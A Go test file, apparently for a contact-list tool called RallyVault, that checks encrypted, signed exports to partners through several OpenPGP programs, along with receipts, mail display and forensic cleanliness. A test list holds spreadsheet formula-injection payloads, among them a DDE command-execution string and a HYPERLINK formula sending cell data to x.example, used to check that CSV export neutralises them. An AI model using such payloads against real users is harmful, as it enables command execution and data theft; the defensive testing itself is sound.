package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// have skips the test if a program of a partner's is not installed; where tools are
// required it fails.
func have(t *testing.T, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if _, err := exec.LookPath(p); err != nil {
			if os.Getenv("RALLYVAULT_TOOLS") == "required" {
				t.Fatalf("%s is required", p)
			}
			t.Skipf("no %s here", p)
		}
	}
}

// tool runs a partner's program.
func tool(t *testing.T, env []string, stdin []byte, name string, args ...string) (out []byte, diag string, err error) {
	t.Helper()
	c := exec.CommandContext(t.Context(), name, args...)
	c.Env = append(os.Environ(), env...)
	var stdout, stderr bytes.Buffer
	c.Stdin, c.Stdout, c.Stderr = bytes.NewReader(stdin), &stdout, &stderr
	err = c.Run()
	return stdout.Bytes(), stderr.String(), err
}

func mustTool(t *testing.T, env []string, stdin []byte, name string, args ...string) []byte {
	t.Helper()
	out, diag, err := tool(t, env, stdin, name, args...)
	if err != nil {
		t.Fatalf("%s %s: %v: %s", name, strings.Join(args, " "), err, diag)
	}
	return out
}

// A correspondent is a partner with a program of its own.
type correspondent struct {
	certificate []byte
	// open decrypts a file and wants its signature to be of a fingerprint.
	open func(file, fingerprint string) ([]byte, error)
}

// gnupg makes a directory for GnuPG, short enough for the name of a socket.
func gnupg(t *testing.T) (env []string) {
	t.Helper()
	have(t, "gpg", "gpgconf")
	home, err := os.MkdirTemp("", "rv-gpg-")
	if err != nil {
		t.Fatal(err)
	}
	env = []string{"GNUPGHOME=" + home}
	t.Cleanup(func() {
		c := exec.Command("gpgconf", "--kill", "all")
		c.Env = append(os.Environ(), env...)
		_ = c.Run()
		_ = os.RemoveAll(home)
	})
	return env
}

func gpgArgs(args ...string) []string {
	return append([]string{"--batch", "--quiet", "--pinentry-mode", "loopback", "--passphrase", "", "--trust-model", "always"}, args...)
}

func gpgPartner(t *testing.T, env []string, ours, algorithm, encryption string) correspondent {
	t.Helper()
	mustTool(t, env, nil, "gpg", gpgArgs("--quick-gen-key", "Partner "+algorithm, algorithm, "sign", "1y")...)
	listing := string(mustTool(t, env, nil, "gpg", gpgArgs("--with-colons", "--list-keys", "Partner "+algorithm)...))
	_, rest, _ := strings.Cut(listing, "\nfpr:::::::::")
	mustTool(t, env, nil, "gpg", gpgArgs("--quick-add-key", rest[:40], encryption, "encr", "1y")...)
	mustTool(t, env, nil, "gpg", gpgArgs("--import", ours)...)
	return correspondent{mustTool(t, env, nil, "gpg", gpgArgs("--armor", "--export", rest[:40])...), func(file, fingerprint string) ([]byte, error) {
		out, diag, err := tool(t, env, nil, "gpg", gpgArgs("--status-fd", "2", "--decrypt", file)...)
		if err == nil && (!strings.Contains(diag, "VALIDSIG "+fingerprint) || !strings.Contains(diag, "GOODMDC")) {
			err = fmt.Errorf("no good signature: %s", diag)
		}
		return out, err
	}}
}

func sequoiaPartner(t *testing.T, dir, ours string) correspondent {
	t.Helper()
	have(t, "sq")
	key := filepath.Join(dir, "sq.key")
	mustTool(t, nil, nil, "sq", "key", "generate", "--userid", "Partner", "--cipher-suite", "cv25519", "--export", key)
	return correspondent{mustTool(t, nil, nil, "sq", "key", "extract-cert", key), func(file, fingerprint string) ([]byte, error) {
		out, diag, err := tool(t, nil, nil, "sq", "decrypt", "--recipient-key", key, "--signer-cert", ours, file)
		if err != nil {
			err = fmt.Errorf("%w: %s", err, diag)
		}
		return out, err
	}}
}

func rnpPartner(t *testing.T, dir, ours string) correspondent {
	t.Helper()
	have(t, "rnp", "rnpkeys")
	home := filepath.Join(dir, "rnp")
	if err := os.Mkdir(home, 0o700); err != nil {
		t.Fatal(err)
	}
	common := []string{"--homedir", home, "--password", "x", "--notty"}
	mustTool(t, nil, nil, "rnpkeys", append(common, "--generate-key", "--userid", "Partner", "--numbits", "2048")...)
	mustTool(t, nil, nil, "rnpkeys", append(common, "--import-keys", ours)...)
	return correspondent{mustTool(t, nil, nil, "rnpkeys", append(common, "--export-key", "Partner")...), func(file, fingerprint string) ([]byte, error) {
		out, diag, err := tool(t, nil, nil, "rnp", append(common, "--output", "-", "--decrypt", file)...)
		if err == nil && (!strings.Contains(diag, "Good signature made") || !strings.Contains(strings.ToUpper(diag), fingerprint[24:])) {
			err = fmt.Errorf("no good signature: %s", diag)
		}
		return out, err
	}}
}

func openpgpJSPartner(t *testing.T, dir, ours string) correspondent {
	t.Helper()
	have(t, "node")
	home := os.Getenv("RALLYVAULT_OPENPGPJS")
	if home == "" {
		if os.Getenv("RALLYVAULT_TOOLS") == "required" {
			t.Fatal("RALLYVAULT_OPENPGPJS names no directory with openpgp in node_modules")
		}
		t.Skip("RALLYVAULT_OPENPGPJS names no directory with openpgp in node_modules")
	}
	env := []string{"NODE_PATH=" + filepath.Join(home, "node_modules")}
	script, key := filepath.Join("..", "..", "crypto", "pgp", "testdata", "openpgp.cjs"), filepath.Join(dir, "js.key")
	return correspondent{mustTool(t, env, nil, "node", script, "generate", "v4", key), func(file, fingerprint string) ([]byte, error) {
		out, diag, err := tool(t, env, nil, "node", script, "decrypt", key, ours, file)
		if err != nil || strings.TrimSpace(diag) != "verified "+strings.ToLower(fingerprint[24:]) {
			return nil, fmt.Errorf("%v: %s", err, diag)
		}
		return out, nil
	}}
}

// formulas are what somebody may put into a form so that a spreadsheet runs it.
var formulas = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example/?"&A1,"click")`, `+1+1`, `-2+3`, `@SUM(1+1)`, `=1+1`, `;=1+1`, `"=1+1`, `'=1+1`, ` =1+1`,
	"\uff1d1+1", "=1\n+1", "=1,2", "Ana \U0001F600 Ñandú", "عائشة", "<b>x</b>",
}

// sent makes a list whose people all agreed, with formulas for names and towns, and
// returns its id and what is stored of it.
func sent(t *testing.T, m *machine) (list string, people []map[string]string) {
	t.Helper()
	var l struct{ ID string }
	m.mustJSON(&l, "", "list", "create", "Corpus", "--purpose", "p", "--fields", "name,email,phone,city", "--question", "Can drive?")
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"Name", "Email", "Phone", "City", "Can drive?"})
	for i, f := range formulas {
		_ = w.Write([]string{f, fmt.Sprintf("p%d@example.org", i), fmt.Sprintf("+1212555%04d", 100+i), f, "yes"})
	}
	w.Flush()
	m.must(b.String(), "import", l.ID, "-", "--shareable", "yes", "--consent-text", "May we share this?")
	m.mustJSON(&people, "", "list", "contacts", l.ID)
	odd := 0
	for _, p := range people {
		if strings.ContainsAny(p["name"]+p["city"], "=+@|") {
			odd++
		}
	}
	if len(people) != len(formulas) || odd < 6 {
		t.Fatalf("%d people, %d formulas on it: %q", len(people), odd, people)
	}
	return l.ID, people
}

// readBack checks that what a partner read is everybody, exactly; in CSV with what a
// spreadsheet would run made inert.
func readBack(t *testing.T, format string, plain []byte, people []map[string]string) {
	t.Helper()
	fields := []string{"name", "email", "phone", "city", "q1"}
	var got []map[string]string
	switch format {
	case "json":
		var v struct {
			Notice   any
			Contacts []map[string]string
		}
		if err := json.Unmarshal(plain, &v); err != nil || v.Notice == nil {
			t.Fatalf("%v: %s", err, plain)
		}
		got = v.Contacts
	case "csv":
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(plain), "\ufeff")))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil || len(rows) < 2 || len(rows[0]) != 1 || !slices.Equal(rows[1], fields) {
			t.Fatalf("%v: %s", err, plain)
		}
		phone := regexp.MustCompile(`^\+[0-9]+$`)
		for _, row := range rows[2:] {
			c := map[string]string{}
			for i, f := range fields {
				cell := row[i]
				// Where semicolons separate, one begins a cell.
				for piece := range strings.SplitSeq(cell, ";") {
					if strings.ContainsAny(piece[:min(1, len(piece))], "=+-@\t\r") && !(f == "phone" && phone.MatchString(cell)) {
						t.Errorf("a spreadsheet may run %q", cell)
					}
				}
				c[f] = cell
			}
			got = append(got, c)
		}
	case "vcard":
		text := strings.ReplaceAll(string(plain), "\r\n ", "")
		for _, card := range strings.Split(text, "END:VCARD\r\n") {
			if card == "" {
				continue
			}
			c := map[string]string{}
			for line := range strings.SplitSeq(card, "\r\n") {
				for f, p := range map[string]string{"name": "FN:", "email": "EMAIL:", "phone": "TEL:"} {
					if v, ok := strings.CutPrefix(line, p); ok {
						c[f] = strings.NewReplacer(`\\`, `\`, `\,`, `,`, `\;`, `;`, `\n`, "\n").Replace(v)
					}
				}
			}
			got = append(got, c)
		}
		fields = fields[:3]
	}
	if len(got) != len(people) {
		t.Fatalf("%s: got %d people, want %d", format, len(got), len(people))
	}
	for _, want := range people {
		i := slices.IndexFunc(got, func(c map[string]string) bool { return c["email"] == want["email"] })
		if i < 0 {
			t.Errorf("%s: %s is not in it", format, want["email"])
			continue
		}
		for _, f := range fields {
			g, w := got[i][f], want[f]
			switch {
			case format == "csv": // what is made inert has more of these
				g, w = strings.ReplaceAll(g, "'", ""), strings.ReplaceAll(w, "'", "")
			case format == "vcard" && f == "name" && w == "":
				w = want["email"] // a vCard has to have a name
			}
			if g != w {
				t.Errorf("%s: %s: got %q, want %q", format, f, g, w)
			}
		}
		if _, has := got[i]["id"]; has {
			t.Errorf("%s: an id left the house", format)
		}
	}
}

// TestCorrespondents sends a list to partners with programs of their own, in every
// format; what they read is what is on the list.
func TestCorrespondents(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.setup()
	m.serve()
	m.login()
	list, people := sent(t, m)
	var key struct{ Fingerprint, Certificate string }
	m.mustJSON(&key, "", "signing-key")
	ours := m.write("ours.asc", key.Certificate)
	day := time.Now().AddDate(0, 1, 0).Format(time.DateOnly)
	for name, make := range map[string]func(t *testing.T, dir string) correspondent{
		"gpg-rsa":     func(t *testing.T, _ string) correspondent { return gpgPartner(t, gnupg(t), ours, "rsa3072", "rsa3072") },
		"gpg-cv25519": func(t *testing.T, _ string) correspondent { return gpgPartner(t, gnupg(t), ours, "ed25519", "cv25519") },
		"sq":          func(t *testing.T, dir string) correspondent { return sequoiaPartner(t, dir, ours) },
		"rnp":         func(t *testing.T, dir string) correspondent { return rnpPartner(t, dir, ours) },
		"openpgp.js":  func(t *testing.T, dir string) correspondent { return openpgpJSPartner(t, dir, ours) },
	} {
		t.Run(name, func(t *testing.T) {
			c := make(t, t.TempDir())
			var p struct{ Fingerprint string }
			m.mustJSON(&p, string(c.certificate), "partner", "add", name, "-")
			m.must("", "partner", "verify", name, "--fingerprint", p.Fingerprint, "--how", "by phone")
			for _, format := range []string{"csv", "json", "vcard"} {
				file := m.path(name + "." + format)
				m.must("", "export", list, "--partner", name, "--fields", "name,email,phone,city,q1", "--purpose", "legal help", "--delete-by", day, "--format", format, "--out", file)
				plain, err := c.open(file, key.Fingerprint)
				if err != nil {
					t.Errorf("%s: %v", format, err)
					continue
				}
				readBack(t, format, plain, people)
			}
		})
	}
}

// TestReceiptAndMailByGnuPG: GnuPG signs a receipt, and mutt opens the mail with it.
func TestReceiptAndMailByGnuPG(t *testing.T) {
	t.Parallel()
	have(t, "gpg", "mutt", "script", "timeout")
	m := newMachine(t)
	m.setup()
	m.serve()
	m.login()
	list, _ := sent(t, m)
	env := gnupg(t)
	c := gpgPartner(t, env, m.write("ours.asc", m.must("", "signing-key")), "ed25519", "cv25519")
	var p struct{ Fingerprint string }
	m.mustJSON(&p, string(c.certificate), "partner", "add", "Aid", "-")
	m.must("", "partner", "verify", "Aid", "--fingerprint", p.Fingerprint, "--how", "by phone")
	var e struct{ ID, SHA256 string }
	export := func() {
		t.Helper()
		m.mustJSON(&e, "", "export", list, "--partner", "Aid", "--fields", "name", "--purpose", "legal help", "--delete-by", time.Now().AddDate(0, 1, 0).Format(time.DateOnly), "--out", m.path(fmt.Sprint(time.Now().UnixNano())))
	}
	for _, how := range []string{"--clearsign", "--sign", "--sign --armor", "--detach-sign"} {
		export()
		line := m.write("line", m.must("", "export", "receipt", e.ID, "--text"))
		signed := m.write("signed", string(mustTool(t, env, nil, "gpg", gpgArgs(append(strings.Fields(how), "-o", "-", line)...)...)))
		want := 0
		if how == "--detach-sign" {
			want = 2
		}
		if code, stdout, stderr := m.run("", "export", "receipt", e.ID, signed); code != want {
			t.Errorf("%s: got exit %d, want %d: %s%s", how, code, want, stdout, stderr)
		}
	}

	eml := m.path("m.eml")
	m.must("", "export", "mail", e.ID, "--to", "aid@example.org", "--eml", eml)
	text, err := os.ReadFile(eml)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		t.Helper()
		name = filepath.Join(dir, name)
		if err := os.WriteFile(name, b, 0o600); err != nil {
			t.Fatal(err)
		}
		return name
	}
	box := write("box", append([]byte("From x Fri May  1 12:00:00 2026\n"), bytes.ReplaceAll(text, []byte("\r\n"), []byte("\n"))...))
	shown, saved := filepath.Join(dir, "shown"), filepath.Join(dir, "saved")
	rc := write("rc", fmt.Appendf(nil, `set crypt_use_gpgme=yes pager="cp %%s %s" prompt_after=no wait_key=no crypt_protected_headers_read=yes pgp_verify_sig=yes
set folder=%s confirmappend=no delete=no charset=utf-8
push "<display-message><view-attachments><search>export<enter><save-entry><kill-line>%s<enter><exit><exit>"
`, shown, dir, saved))
	out, diag, err := tool(t, append(env, "TERM=xterm", "HOME="+dir, "GPG_TTY=", "LINES=40", "COLUMNS=100"), nil, "timeout", "20", "script", "-qec", "mutt -n -F "+rc+" -f "+box, "/dev/null")
	if err != nil {
		t.Fatalf("%v: %s%q", err, diag, out)
	}
	read, err := os.ReadFile(shown)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Good signature from", "Subject: Confidential list from", "deleted " + e.ID + " " + e.SHA256} {
		if !strings.Contains(string(read), want) {
			t.Errorf("mutt shows no %q in\n%s", want, read)
		}
	}
	attached, err := os.ReadFile(saved)
	if sum := sha256.Sum256(attached); err != nil || hex.EncodeToString(sum[:]) != e.SHA256 {
		t.Errorf("the attachment is not the ledger's message: %d bytes, %v", len(attached), err)
	}
}

// TestSeizedExports: of partners and what was sent to them nothing is on the disk, in
// the logs or in the audit trail.
func TestSeizedExports(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	marks := map[string]string{
		"partner": "Wombatzither Legal Aid", "purpose": "Marmosetkazoo hearing", "how": "Pangolintuba on the phone", "address": "lemurbanjo@wombatzither.example.org",
		"notice": "do not pass it on", "letter": "This letter comes from", "person": "Yolandaaardwolf Pangolinova", "receipt": "BEGIN PGP SIGNED", "message": "BEGIN PGP MESSAGE",
	}
	m.setup()
	srv := m.serve()
	m.login()
	k := newTestKey(t)
	marks["fingerprint"] = k.fingerprint
	secret := func(name string) string { return "@" + m.write("in-"+name, marks[name]+"\n") }
	m.must(string(k.certificate), "partner", "add", secret("partner"), "-")
	m.must("", "partner", "verify", secret("partner"), "--fingerprint", k.fingerprint, "--how", secret("how"))
	m.must("", "list", "create", "T", "--purpose", "p", "--fields", "name,email")
	m.must("Name,Email\n"+marks["person"]+",yolanda@example.org\n", "import", "T", "-", "--shareable", "yes", "--consent-text", "May we?")
	var e struct{ ID, SHA256 string }
	day := time.Now().AddDate(0, 1, 0).Format(time.DateOnly)
	m.mustJSON(&e, "", "export", "T", "--partner", secret("partner"), "--fields", "name,email", "--purpose", secret("purpose"), "--delete-by", day, "--out", m.path("x.pgp"))
	marks["hash"] = e.SHA256
	message, err := os.ReadFile(m.path("x.pgp"))
	if err != nil {
		t.Fatal(err)
	}
	var l struct{ URL string }
	m.mustJSON(&l, "", "export", "link", e.ID)
	marks["link"] = l.URL[strings.LastIndex(l.URL, "_")+1:]
	m.must("", "export", "mail", e.ID, "--to", secret("address"), "--eml", m.path("m.eml"))
	m.must("", "export", "get", e.ID, "--out", m.path("y.pgp"))
	line := m.must("", "export", "receipt", e.ID, "--text")
	signed, err := k.sign([]byte(line))
	if err != nil {
		t.Fatal(err)
	}
	m.must(string(signed), "export", "receipt", e.ID, "-")
	m.run("", "partner", "show", secret("address")) // nobody
	m.run(string(signed), "export", "receipt", e.ID, "-")
	trail := map[string]string{"audit log": m.must("", "audit", "log", "--json"), "audit export": m.must("", "audit", "export")}
	scan := func(when string) {
		t.Helper()
		texts := map[string]string{"server's stdout": srv.stdout.String(), "server's stderr": srv.stderr.String()}
		for name, text := range trail {
			texts[name] = text
		}
		dirs := []string{m.data(), m.path("home"), m.path("tmp"), m.path("state"), m.path("run")}
		for _, hit := range searchSeized(t, texts, dirs, marks) {
			t.Errorf("%s: %s", when, hit)
		}
		// OpenPGP has them in binary.
		fingerprint, err := hex.DecodeString(k.fingerprint)
		if err != nil {
			t.Fatal(err)
		}
		for _, dir := range dirs {
			err := filepath.WalkDir(dir, func(path string, f fs.DirEntry, err error) error {
				if err != nil || !f.Type().IsRegular() {
					return err
				}
				b, err := os.ReadFile(path)
				for what, raw := range map[string][]byte{"key id": fingerprint[12:], "message": message[:24], "end of the message": message[len(message)-24:]} {
					if bytes.Contains(b, raw) {
						t.Errorf("%s: the %s is in %s", when, what, path)
					}
				}
				return err
			})
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	scan("while it runs")
	srv.kill()
	scan("after a power cut")
}
